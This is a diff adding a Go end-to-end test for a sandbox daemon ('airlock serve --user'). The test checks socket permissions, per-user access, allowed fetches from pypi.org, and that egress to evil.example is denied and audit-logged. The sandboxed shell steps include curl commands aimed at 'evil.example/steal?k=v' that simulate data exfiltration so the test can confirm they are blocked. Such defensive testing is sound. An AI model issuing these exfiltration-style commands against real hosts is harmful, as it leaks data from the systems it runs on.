@@ -1,0 +1,260 @@
+package e2e
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"os"
+	"os/exec"
+	"os/user"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/airlock-dev/airlock/api"
+	"github.com/airlock-dev/airlock/audit"
+	"github.com/airlock-dev/airlock/client"
+	"github.com/airlock-dev/airlock/test/poll"
+)
+
+// ciUserEnv names the unprivileged user the rootless tests run airlock as
+// (scripts/unpriv-tests.sh sets it to alk-ci); unset, nobody.
+const ciUserEnv = "AIRLOCK_CI_USER"
+
+// ciUID resolves ciUserEnv (a name or a uid), else nobody's uid.
+func ciUID() int {
+	name := os.Getenv(ciUserEnv)
+	if name == "" {
+		return 65534
+	}
+	if u, err := user.Lookup(name); err == nil {
+		if n, err := strconv.Atoi(u.Uid); err == nil && n != 0 {
+			return n
+		}
+	}
+	if n, err := strconv.Atoi(name); err == nil && n != 0 {
+		return n
+	}
+	panic(fmt.Sprintf("%s=%q: no such unprivileged user", ciUserEnv, name))
+}
+
+// The Go client's side of TestRootServeUser, run by it as the user: the
+// test binary again, selecting TestUserdGoClient with userdHelperEnv set.
+const (
+	userdHelperEnv = "AIRLOCK_USERD_HELPER"
+	userdSocketEnv = "AIRLOCK_USERD_WANT_SOCKET"
+)
+
+// TestUserdGoClient is the Go client as the daemon's user: it finds the
+// socket by the per-user rule (client.New("")), creates a sandbox allowed
+// pypi.org, fetches from it and from evil.example (refused), and deletes
+// it. It prints what it saw as key=value lines for TestRootServeUser.
+func TestUserdGoClient(t *testing.T) {
+	if os.Getenv(userdHelperEnv) == "" {
+		t.Skip("the user's side of TestRootServeUser; it runs it")
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
+	defer cancel()
+	c := client.New("")
+	if got, want := c.Socket(), os.Getenv(userdSocketEnv); got != want {
+		t.Fatalf("socket: got %s, want %s", got, want)
+	}
+	h, err := c.Health(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fmt.Printf("health=%v\n", h.OK)
+	sb, err := c.CreateSandbox(ctx, api.CreateSandboxRequest{Allow: []string{"pypi.org"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fmt.Printf("owner=%d\n", sb.Owner)
+	var out bytes.Buffer
+	res, err := c.Exec(ctx, sb.ID, api.ExecRequest{Argv: []string{"/bin/sh", "-c", `
+curl -sS --max-time 60 -o /tmp/body -w 'get=%{http_code}\n' https://pypi.org/simple/
+echo "body=$(cat /tmp/body)"
+curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\n' https://evil.example/steal?k=v || true
+`}}, client.ExecIO{Stdout: &out, Stderr: os.Stderr})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fmt.Print(out.String())
+	fmt.Printf("exit=%d\n", res.ExitCode)
+	if _, err := c.DeleteSandbox(ctx, sb.ID); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// userDaemon is `airlock serve --user` run as the CI user.
+type userDaemon struct {
+	e             *rootlessEnv
+	uid           int
+	cfgHome, sock string
+	cmd           *exec.Cmd
+	stderr        *bytes.Buffer
+}
+
+// userEnv is the environment a login of the user would give, with the
+// rootless env's XDG directories.
+func (d *userDaemon) userEnv(extra ...string) []string {
+	return append([]string{"PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "HOME=/nonexistent", "LANG=C.UTF-8",
+		"XDG_RUNTIME_DIR=" + d.e.runtime, "XDG_STATE_HOME=" + d.e.state, "XDG_CONFIG_HOME=" + d.cfgHome}, extra...)
+}
+
+// asUser runs argv as the user (no groups, no capabilities) in dir.
+func (d *userDaemon) asUser(ctx context.Context, argv []string, env ...string) *exec.Cmd {
+	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
+	cmd.Env = d.userEnv(env...)
+	cmd.Dir = d.e.workspace
+	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(d.uid), Gid: uint32(d.uid), Groups: []uint32{}}}
+	cmd.WaitDelay = 10 * time.Second
+	return cmd
+}
+
+// startUserDaemon starts `airlock serve --user` as the user with the rootless
+// env's config as its XDG config file, and waits for its socket. It is
+// stopped with SIGTERM at cleanup.
+func startUserDaemon(t *testing.T, e *rootlessEnv) *userDaemon {
+	t.Helper()
+	d := &userDaemon{e: e, uid: rootlessUID, cfgHome: filepath.Join(e.dir, "xdg-config"), stderr: &bytes.Buffer{}}
+	d.sock = filepath.Join(e.runtime, "airlock", "airlock.sock")
+	if err := os.MkdirAll(filepath.Join(d.cfgHome, "airlock"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := copyFile(e.config, filepath.Join(d.cfgHome, "airlock", "airlock.yaml"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	d.cmd = d.asUser(context.Background(), []string{e.bin, "serve", "--user"})
+	d.cmd.Stderr = d.stderr
+	if err := d.cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		_ = d.cmd.Process.Signal(syscall.SIGTERM)
+		done := make(chan error, 1)
+		go func() { done <- d.cmd.Wait() }()
+		select {
+		case <-done:
+		case <-time.After(60 * time.Second):
+			_ = d.cmd.Process.Kill()
+			<-done
+			t.Errorf("serve --user did not stop in 60s on SIGTERM")
+		}
+		t.Logf("serve --user's log:\n%s", d.stderr.String())
+	})
+	poll.Until(t, 30*time.Second, "serve --user's socket at "+d.sock, func() bool {
+		fi, err := os.Stat(d.sock)
+		return err == nil && fi.Mode()&os.ModeSocket != 0
+	})
+	return d
+}
+
+// TestRootServeUser: `airlock serve --user` run by an unprivileged user
+// (no sudo, no capabilities) serves that user alone. Its socket is 0600 in a
+// 0700 directory of the user's under XDG_RUNTIME_DIR; root's connection is
+// refused by the peer-credential check, another user's by the socket's
+// mode; the Go client (this test binary again, as the user) and the Python
+// client find the socket by themselves, and each creates a rootless sandbox
+// that fetches from an allowed host while a denied one sees nothing; the
+// audit log, in the user's state directory, verifies.
+func TestRootServeUser(t *testing.T) {
+	e := newRootlessEnv(t)
+	d := startUserDaemon(t, e)
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
+	defer cancel()
+
+	for p, want := range map[string]os.FileMode{d.sock: 0o600, filepath.Dir(d.sock): 0o700} {
+		fi, err := os.Stat(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := fi.Mode().Perm(); got != want {
+			t.Errorf("%s: got mode %04o, want %04o", p, got, want)
+		}
+		if st := fi.Sys().(*syscall.Stat_t); int(st.Uid) != d.uid {
+			t.Errorf("%s: owned by uid %d, want the user's %d", p, st.Uid, d.uid)
+		}
+	}
+
+	// Root may open the socket file, but not use the daemon.
+	_, err := client.New(d.sock).Health(ctx)
+	if code := client.Code(err); code != api.CodeForbidden {
+		t.Errorf("root's health call: got %v (code %q), want %q", err, code, api.CodeForbidden)
+	}
+	// Another unprivileged user cannot even connect.
+	other := *d
+	other.uid = d.uid + 1
+	out, err := other.asUser(ctx, []string{"/usr/bin/curl", "-sS", "--unix-socket", d.sock, "http://local/v1/health"}).CombinedOutput()
+	if err == nil || strings.Contains(string(out), `"ok"`) {
+		t.Errorf("uid %d reached the daemon: %v\n%s", other.uid, err, out)
+	}
+
+	pypiBefore, evilBefore := snap(w.pypi), snap(w.evil)
+	t.Run("go client", func(t *testing.T) {
+		self, err := os.Executable()
+		if err != nil {
+			t.Fatal(err)
+		}
+		testBin := filepath.Join(e.dir, "e2e.test")
+		if err := copyFile(self, testBin, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		cmd := d.asUser(ctx, []string{testBin, "-test.run", "^TestUserdGoClient$", "-test.count=1"},
+			userdHelperEnv+"=1", userdSocketEnv+"="+d.sock)
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			t.Fatalf("the Go client as uid %d: %v\n%s", d.uid, err, out)
+		}
+		m := kv(string(out))
+		res := result{stdout: string(out)}
+		wantKV(t, m, "health", "true", res)
+		wantKV(t, m, "owner", strconv.Itoa(d.uid), res)
+		wantKV(t, m, "get", "200", res)
+		wantKV(t, m, "body", "hello from pypi.org/simple/", res)
+		wantKV(t, m, "evil", "403", res)
+		wantKV(t, m, "exit", "0", res)
+	})
+	t.Run("python client", func(t *testing.T) {
+		pyDir := filepath.Join(e.dir, "python")
+		if out, err := exec.Command("cp", "-r", "../../clients/python", pyDir).CombinedOutput(); err != nil {
+			t.Fatalf("copy the Python client: %v\n%s", err, out)
+		}
+		script := `
+import airlock_client as a
+c = a.Client()
+assert c.socket == a.default_socket() == a.user_socket(), (c.socket, a.user_socket())
+print("socket=" + c.socket)
+print("health=%s" % c.health().ok)
+r = c.run(["/bin/sh", "-c", "curl -sS --max-time 60 -o /dev/null -w 'get=%{http_code}\\n' https://pypi.org/simple/; curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\\n' https://evil.example/py || true"], allow=["pypi.org"])
+print(r.stdout, end="")
+print("exit=%d" % r.result.exit_code)
+`
+		out, err := d.asUser(ctx, []string{"/usr/bin/python3", "-c", script}, "PYTHONPATH="+pyDir, "PYTHONDONTWRITEBYTECODE=1").CombinedOutput()
+		if err != nil {
+			t.Fatalf("the Python client as uid %d: %v\n%s", d.uid, err, out)
+		}
+		m := kv(string(out))
+		res := result{stdout: string(out)}
+		wantKV(t, m, "socket", d.sock, res)
+		wantKV(t, m, "health", "True", res)
+		wantKV(t, m, "get", "200", res)
+		wantKV(t, m, "evil", "403", res)
+		wantKV(t, m, "exit", "0", res)
+	})
+	if dp := snap(w.pypi).sub(pypiBefore); dp.requests != 2 {
+		t.Errorf("pypi.org: got %d requests, want 2 (one per client)", dp.requests)
+	}
+	if de := snap(w.evil).sub(evilBefore); de.conns != 0 || de.requests != 0 {
+		t.Errorf("evil.example: got %d connections, %d requests, want none", de.conns, de.requests)
+	}
+	recs := readRootlessLog(t, e.audit)
+	mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionAllow, host: "pypi.org"})
+	mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionDeny, host: "evil.example"})
+	mustNotFind(t, recs, match{decision: audit.DecisionAllow, host: "evil.example"})
+	if out, err := exec.Command(w.bin, "audit", "verify", "--pubkey", e.audit+".key.pub", e.audit).CombinedOutput(); err != nil {
+		t.Errorf("audit verify: %v\n%s", err, out)
+	}
+}
